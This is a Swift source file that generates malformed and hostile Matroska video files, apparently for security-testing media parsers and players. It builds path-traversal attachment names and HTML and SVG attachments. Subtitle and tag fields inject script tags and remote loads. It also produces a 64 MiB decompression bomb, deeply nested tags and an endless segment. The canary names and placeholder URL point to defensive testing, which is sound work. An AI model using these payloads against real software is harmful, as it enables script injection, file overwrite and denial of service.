import Foundation

/// Matroska that is continued elsewhere, carries more than media, or has no end.
extension AttackShape {
    private static let identity = Array(repeating: UInt8(7), count: 16)

    /// A track of subtitles with one line.
    private static func subtitles(_ codec: String, _ setup: String, _ line: String) -> Data {
        let track = Element.make(
            [0xae], Element.make([0xd7], [2]), Element.make([0x73, 0xc5], [2]),
            Element.make([0x83], [0x11]), Element.make([0x86], codec),
            Element.make([0x63, 0xa2], setup))
        let block = Element.make(
            [0xa0], Element.make([0xa1], [0x82, 0, 0, 0], line),
            Element.make([0x9b], UInt16(900).big))
        return bytes(
            Element.make([0x16, 0x54, 0xae, 0x6b], track),
            Element.make([0x1f, 0x43, 0xb6, 0x75], Element.make([0xe7], [0]), block))
    }

    private static func attachment(_ name: String, _ type: String, _ data: any ByteSource) -> Data {
        Element.make(
            [0x19, 0x41, 0xa4, 0x69],
            Element.make(
                [0x61, 0xa7], Element.make([0x46, 0x6e], name), Element.make([0x46, 0x60], type),
                Element.make([0x46, 0xae], [9]), Element.make([0x46, 0x5c], data)))
    }

    static let matroskas: [AttackShape] = [
        AttackShape("linked-segments.mkv") {
            Element.recording(
                information: bytes(
                    Element.make([0x73, 0xa4], identity),
                    Element.make([0x3c, 0xb9, 0x23], identity),
                    Element.make([0x3e, 0xb9, 0x23], identity),
                    Element.make([0x3c, 0x83, 0xab], $0.piece),
                    Element.make([0x3e, 0x83, 0xbb], $0.http)))
        },
        AttackShape("chapters-of-other-segments.mkv") { _ in
            let atom = Element.make(
                [0xb6], Element.make([0x73, 0xc4], [1]), Element.make([0x91], [0]),
                Element.make([0x6e, 0x67], identity), Element.make([0x6e, 0xbc], [1]))
            let edition = Element.make([0x45, 0xb9], Element.make([0x45, 0xdd], [1]), atom)
            return Element.recording(more: Element.make([0x10, 0x43, 0xa7, 0x70], edition))
        },
        AttackShape("attachment-with-a-path.mkv") {
            Element.recording(
                more: attachment("../../../../canary.txt", "image/png", $0.png))
        },
        AttackShape("attached-page.mkv") {
            Element.recording(
                more: attachment("cover.html", "text/html", "<script src=\"\($0.http)\"></script>"))
        },
        AttackShape("attached-drawing.mkv") {
            Element.recording(
                more: attachment(
                    "cover.svg", "image/svg+xml",
                    "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"\($0.http)\"/></svg>"))
        },
        AttackShape("attached-font.mkv") { material in
            bytes(
                Element.recording(
                    more: attachment(
                        "a.ttf", "application/x-truetype-font",
                        bytes([0, 1, 0, 0], times(4096, all16)))))
        },
        AttackShape("subtitles-with-a-picture.mkv") {
            Element.recording(
                more: subtitles(
                    "S_TEXT/UTF8", "", "<img src=\"\($0.http)\"><script>x</script>--> <b onclick=x>"
                ))
        },
        AttackShape("subtitles-with-a-drawing.mkv") {
            Element.recording(
                more: subtitles(
                    "S_TEXT/ASS",
                    "[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\n[Fonts]\nfontname: \($0.text)\n",
                    "0,0,Default,,0,0,0,,{\\fn\($0.text)\\1img(\($0.http))\\p4}m 0 0 l 9999999 1{\\p0}x"
                ))
        },
        AttackShape("subtitles-with-a-style.mkv") {
            Element.recording(
                more: subtitles(
                    "S_TEXT/WEBVTT", "WEBVTT\nSTYLE\n::cue{background:url(\($0.http))}\n",
                    "<c.x style=\"background:url(\($0.http))\">x</c>\n\n00:00.000 --> 99:00.000\n<script>"
                ))
        },
        AttackShape("tags-with-a-script.mkv") {
            let tag = Element.make(
                [0x67, 0xc8], Element.make([0x45, 0xa3], "TITLE"),
                Element.make([0x44, 0x87], "</title><script src='\($0.http)'></script>"))
            return Element.recording(
                more: Element.make(
                    [0x12, 0x54, 0xc3, 0x67],
                    Element.make([0x73, 0x73], Element.make([0x63, 0xc0]), tag)))
        },
        AttackShape("tags-in-tags.mkv") { _ in
            var tag = Data()
            for _ in 0..<2000 {
                tag = Element.make([0x67, 0xc8], Element.make([0x45, 0xa3], "A"), tag)
            }
            return Element.recording(
                more: Element.make([0x12, 0x54, 0xc3, 0x67], Element.make([0x73, 0x73], tag)))
        },
        AttackShape("a-segment-without-end.mkv") { _ in
            bytes(
                Element.header, [0x18, 0x53, 0x80, 0x67], UInt64.max.big,
                times(
                    2000,
                    [
                        0x1f, 0x43, 0xb6, 0x75, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
                    ]))
        },
        AttackShape("laces-that-lie.mkv") { _ in
            let block = Element.make([0xa3], [0x81, 0, 0, 0x86, 0xff], times(600, [0xff]))
            return Element.recording(
                more: Element.make([0x1f, 0x43, 0xb6, 0x75], Element.make([0xe7], [0]), block))
        },
        AttackShape("packed-headers.mkv") { _ in
            // A codec's setup that unpacks to 64 MiB.
            let packed = Deflate.zlib(0, count: 64 << 20)
            let encoding = Element.make(
                [0x6d, 0x80],
                Element.make(
                    [0x62, 0x40], Element.make([0x50, 0x31], [0]),
                    Element.make([0x50, 0x32], [3]),
                    Element.make(
                        [0x50, 0x34],
                        Element.make([0x42, 0x54], [0]))))
            let track = Element.make(
                [0xae], Element.make([0xd7], [3]), Element.make([0x83], [1]),
                Element.make([0x86], "V_MPEG4/ISO/AVC"), Element.make([0x63, 0xa2], packed),
                encoding)
            return Element.recording(more: Element.make([0x16, 0x54, 0xae, 0x6b], track))
        },
    ]

    private static let all16: [UInt8] = [0xff, 0xff]
}
